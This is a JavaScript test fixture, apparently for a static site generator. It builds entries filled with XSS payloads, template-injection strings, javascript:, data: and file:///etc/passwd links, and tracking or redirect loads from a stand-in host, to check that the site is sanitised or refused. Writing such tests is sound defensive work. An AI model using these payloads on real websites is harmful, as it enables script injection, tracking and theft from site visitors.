// What a hostile contributor might send: every piece calls `tripped` or loads from `EVIL` if a
// browser ever runs it. `made` are published; `refused` keep a site from being built.

/** A host that nobody must be asked for anything. */
export const EVIL = "https://evil.invalid";

const page = "data:text/html,<script>parent.tripped()</script>";

/** Marks that end whatever a value may stand in: text, attribute, script, style, comment. */
export const BREAKOUTS = [
  `<script>tripped()</script>`,
  `"><script>tripped()</script>`,
  `'><img src=x onerror=tripped()>`,
  `</title><script>tripped()</script>`,
  `</script><script>tripped()</script>`,
  `--><script>tripped()</script>`,
  `]]><script>tripped()</script>`,
  `" autofocus onfocus="tripped()" x="`,
  `{{ 7 * 7 }}{% raw %}<script>tripped()</script>{% endraw %}`,
  `{% include "site.toml" %}{{ get_env(name="PATH") }}`,
  `&lt;script&gt;tripped()&lt;/script&gt;&#x3c;script>tripped()</script>`,
  `\u202e<script>tripped()</script>`,
  `javascript:tripped()`,
  `<svg/onload=tripped()>`,
  `\`-tripped()-\``,
  `\${tripped()}`,
  `</style><style>@import "${EVIL}/a.css";</style>`,
];

/** HTML and Markdown in a text. */
const BODIES = [
  `<script>tripped()</script>`,
  `<scr<script>ipt>tripped()</scr</script>ipt>`,
  `<img src=drawing.svg onerror="tripped()">`,
  `<img src="${EVIL}/pixel.png" alt="">`,
  `<img srcset="${EVIL}/pixel.png 1x" src=drawing.svg alt="">`,
  `<picture><source srcset="${EVIL}/pixel.png"><img alt=""></picture>`,
  `<svg onload="tripped()"><script>tripped()</script><a xlink:href="javascript:tripped()"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=tripped()&gt;">`,
  `<form action="${EVIL}"><button formaction="javascript:tripped()">go</button></form>`,
  `<input autofocus onfocus=tripped()><select onfocus=tripped() autofocus></select>`,
  `<base href="${EVIL}/"><a href="/">next</a>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<link rel="stylesheet" href="${EVIL}/a.css"><link rel="prefetch" href="${EVIL}/b">`,
  `<style>@import "${EVIL}/a.css"; body { background: url(${EVIL}/b.png) }</style>`,
  `<p style="position:fixed;inset:0;background:url(${EVIL}/c.png)">over everything</p>`,
  `<div class="site-header skip-link"><p class="notice">not from the site</p></div>`,
  `<div id="main" name="body"><a id="location" href="drawing.svg">clobbered</a></div>`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay onloadstart=tripped()></video>`,
  `<audio controls onplay=tripped() src="${EVIL}/a.mp3"></audio>`,
  `<details open ontoggle=tripped()><summary>more</summary>text</details>`,
  `<marquee onstart=tripped()>x</marquee><body onload=tripped()>`,
  `<template><script>tripped()</script></template><noscript><p title="</noscript><img src=drawing.svg onerror=tripped()>">`,
  `<table><caption onclick=tripped()>x</caption><tr background="${EVIL}/t.png"><td>y</table>`,
  `<!--[if IE]><script>tripped()</script><![endif]--><!-- > <script>tripped()</script> -->`,
  `<?xml-stylesheet href="${EVIL}/a.css"?><![CDATA[<script>tripped()</script>]]>`,
  `&lt;img src=x onerror=tripped()&gt; &#60;script&#62;tripped()&#60;/script&#62; &unknown; &#0; &#xD800; &`,
  `<b/onmouseover=tripped()//>x</b><i title='"><img src=drawing.svg onerror=tripped()>'>y</i>`,
  `# Heading {onclick=tripped() style="position:fixed" #main .skip-link}\n\nText.`,
  `\`<script>tripped()</script>\`\n\n~~~"><script>tripped()</script>\n<script>tripped()</script>\n~~~`,
  `[^note]\n\n[^note]: <script>tripped()</script> <img src=drawing.svg onerror=tripped()>`,
  `| a | <script>tripped()</script> |\n|---|---|\n| <img src=drawing.svg onerror=tripped()> | {{ 7 }} |`,
  `[text](https://example.com/?"onmouseover="tripped() "ti\\"tle onclick=tripped()")`,
  `<https://example.com/"onclick="tripped()> https://example.com/<script>tripped()</script>`,
  `![" onerror="tripped()](${EVIL}/x.png "t\\" onload=\\"tripped()")`,
  `[x]: <https://example.com> "\\"><script>tripped()</script>"\n\n[x] and [text][x]`,
  `<plaintext><xmp><script>tripped()</script>`,
  `<a href="https://example.com" ping="${EVIL}" target="_blank" onclick="tripped()">ping</a>`,
  `<dialog open><p>Sign in</p></dialog><textarea autofocus onfocus=tripped()></textarea>`,
  `<slot onslotchange=tripped()></slot><x-y is="event-filter" onclick=tripped()>z</x-y>`,
  `{{ site | json_encode }}{% for x in (1..9) %}{{ x }}{% endfor %}{% set a = 1 %}{# c #}`,
  `<svg><animate onbegin=tripped() attributeName=x dur=1s /><set onend=tripped() /></svg>`,
  `<p tabindex=0 onpointerover=tripped() onfocusin=tripped()>touch</p><keygen autofocus onfocus=tripped()>`,
  `<isindex type=image src=drawing.svg onload=tripped()><image src=drawing.svg onload=tripped()>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=tripped()>x</p>`,
];

/** HTML in a text with addresses of kinds that no page may carry. */
const LINKING = [
  `<iframe src="javascript:tripped()"></iframe><iframe srcdoc="<script>parent.tripped()</script>"></iframe>`,
  `<object data="${page}"></object><embed src="${page}">`,
  `<a href="javascript:tripped()">one</a> <a href=" jAvA\tScript:tripped()">two</a>`,
  `<a href="${page}">data</a> <a href="vbscript:x">vb</a> <a href="&#106;avascript:tripped()">entity</a>`,
];

/** Links that no page may carry, where a link is taken. */
export const LINKS = [
  "javascript:tripped()",
  "JaVaScRiPt:tripped()",
  "java\\tscript:tripped()",
  "data:text/html,tripped",
  "vbscript:tripped()",
  "file:///etc/passwd",
  "blob:https://example.com/x",
];

const quote = (text) => `'${text.replaceAll("'", "''")}'`;

/** An entry in which a value stands in every field that takes words. */
function everywhere(value) {
  const text = quote(value);
  return `---
title: ${text}
date: 2001-05-04
date_text: ${text}
date_note: ${text}
summary: ${text}
kind: race
status: disputed
disputed: [date]
tags: [hostile]
places: [{name: ${text}, lat: 1, lon: 1, precision: area}]
actors: [heron]
authors: [${text}]
claims:
  - {by: heron, says: ${text}, quote: ${text}, said: 2001-05-05, said_note: ${text}, about: ${text}, stance: asserts, source: log}
figures:
  - {measure: ${text}, group: ${text}, low: 1, best: 2, high: 3, by: ${text}, note: ${text}, source: log}
later:
  - {by: heron, says: ${text}, as_of: 2002-01-01}
naming:
  - {by: heron, name: ${text}, note: ${text}}
sources:
  - {id: log, title: ${text}, publisher: ${text}, author: ${text}, url: "https://example.com/a", pages: ${text}, note: ${text}, accessed: 2002-01-01}
media:
  - {url: "https://example.com/a.png", alt: ${text}, caption: ${text}, credit: ${text}, licence: ${text}}
updates:
  - {on: 2002-02-02, kind: correction, note: ${text}}
extra: {own: ${text}}
---

Text.[^log]
`;
}

const entry = (body) => `---\ntitle: An entry\ndate: 2001-05-04\nkind: race\n---\n\n${body}\n`;

/** Entries that are published, by id. */
export const made = new Map([
  ...BREAKOUTS.map((value, index) => [`field-${index + 1}`, everywhere(value)]),
  ...BODIES.map((body, index) => [`text-${index + 1}`, entry(body)]),
]);

/** Entries that are refused, by id: a link of a kind that no page may carry, wherever it stands. */
export const refused = new Map([
  ...LINKING.map((body, index) => [`html-${index + 1}`, entry(body)]),
  ...LINKS.flatMap((link, index) => {
    const text = `"${link}"`;
    const name = `link-${index + 1}`;
    const front = (lines) => `---\ntitle: An entry\ndate: 2001-05-04\n${lines}\n---\n\nText.\n`;
    return [
      [`${name}-source`, front(`sources: [{id: log, title: Log, url: ${text}}]`)],
      [`${name}-archive`, front(`sources: [{id: log, title: Log, url: "https://example.com", archive: ${text}}]`)],
      [`${name}-media`, front(`media: [{url: ${text}, alt: Words}]`)],
      [`${name}-markdown`, entry(`[text](<${link.replace("\\t", "\t")}>)`)],
      [`${name}-picture`, entry(`![text](<${link.replace("\\t", "\t")}>)`)],
      [`${name}-alias`, front(`aliases: [${text}]`)],
    ];
  }),
]);

/** Every other file of the site, with a value in all its words. */
export function files(value) {
  const text = quote(value);
  const toml = JSON.stringify(value);
  return new Map([
    [
      "site.toml",
      `title = ${toml}\ndescription = ${toml}\nlicence = ${toml}\nbase_url = "https://example.org/"\n` +
        `[[kinds]]\nid = "race"\nname = ${toml}\nplural = ${toml}\nmark = "disc"\n` +
        `[[parties]]\nid = "heron"\nname = ${toml}\n[check]\nsource-none = "off"\n`,
    ],
    ["content/actors.yaml", `- {id: heron, name: ${text}, short: ${text}, kind: organisation, party: heron, note: ${text}}\n`],
    ["content/places.yaml", `- {id: pier, name: ${text}, short: ${text}, names: {fr: ${text}}, lat: 2, lon: 2, note: ${text}}\n`],
    ["content/glossary.yaml", `- {id: knot, term: ${text}, text: ${text}, note: ${text}}\n`],
    ["content/eras/dawn.md", `---\ntitle: ${text}\nshort: ${text}\nstart: 2000\nend: 2005\nsummary: ${text}\n---\n\n${value}\n`],
    ["content/pages/about.md", `---\ntitle: ${text}\nsummary: ${text}\nnav: true\n---\n\n${value}\n`],
    ["content/events/drawing.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="tripped()"><script>tripped()</script><image href="${EVIL}/x.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="tripped()"/></foreignObject><path d="M0 0h9"/></svg>\n`],
    ["content/events/drawn.md", `---\ntitle: Drawn\ndate: 2001-05-04\nkind: race\nplaces: [pier]\nmedia: [{file: drawing.svg, alt: A line}]\n---\n\n![A line](drawing.svg) and [[term:knot]].\n`],
  ]);
}

